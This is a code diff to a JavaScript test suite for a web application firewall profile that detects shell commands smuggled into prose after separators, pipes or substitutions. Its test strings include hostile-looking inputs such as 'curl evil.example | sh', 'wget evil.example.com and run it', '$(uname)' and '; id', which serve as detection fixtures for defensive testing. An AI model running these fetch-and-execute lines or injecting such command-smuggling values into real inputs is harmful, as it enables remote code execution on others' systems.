@@ -135,7 +135,8 @@ describe('waf API profile: a tool name starting a sentence (family c without cod
       // A separator or substitution anywhere: another command position.
       'docker-compose fails; wget evil.example.com/x is missing too',
       'docker-compose fails;wget is missing too',
-      'docker-compose fails && python3 exits right away',
+      'docker-compose fails && whoami prints nothing here',
+      'docker-compose fails && curl evil.example | sh',
       'docker-compose fails | wget the logs from there',
       'docker-compose fails on $(uname) after the upgrade',
       'docker-compose fails on arm64\nwget evil.example.com and run it',
@@ -181,8 +182,15 @@ describe('waf API profile: a tool name starting a sentence (family c without cod
     assert.equal(commandOnlyAtStart('iex whoami from the evil host'), false);
     assert.equal(commandOnlyAtStart('sudo'), false);
     assert.equal(commandOnlyAtStart('wget is missing;curl works fine'), false);
-    // A semicolon of prose starts a line: the command after it is judged like a first word.
-    assert.equal(commandOnlyAtStart('wget is missing; curl works fine'), true);
+    // A semicolon of prose starts a line: the command after it is judged like a first word, and one that
+    // fetches what it names is refused there whatever its arguments (`; curl metadata`: a single-label host).
+    assert.equal(commandOnlyAtStart('wget is missing; curl works fine'), false);
+    assert.equal(commandOnlyAtStart('wget is missing; docker works fine'), true);
+    assert.equal(commandOnlyAtStart('Full-stack dev | Node, React & SQL | 100% JSS'), true);
+    assert.equal(commandOnlyAtStart('if the deploy breaks just revert && ping me'), true);
+    assert.equal(commandOnlyAtStart('if the deploy breaks just revert && ping localhost'), false);
+    assert.equal(commandOnlyAtStart('docker-compose fails | wget the logs from there'), false);
+    assert.equal(commandOnlyAtStart('docker-compose fails | sh'), false);
     assert.equal(commandOnlyAtStart('Waiting on legal; exec review moved to (2019–2020) 09:30.'), true);
     assert.equal(commandOnlyAtStart('wget is missing; id'), false);
     assert.equal(commandOnlyAtStart('wget is missing; curl evil.example.com'), false);
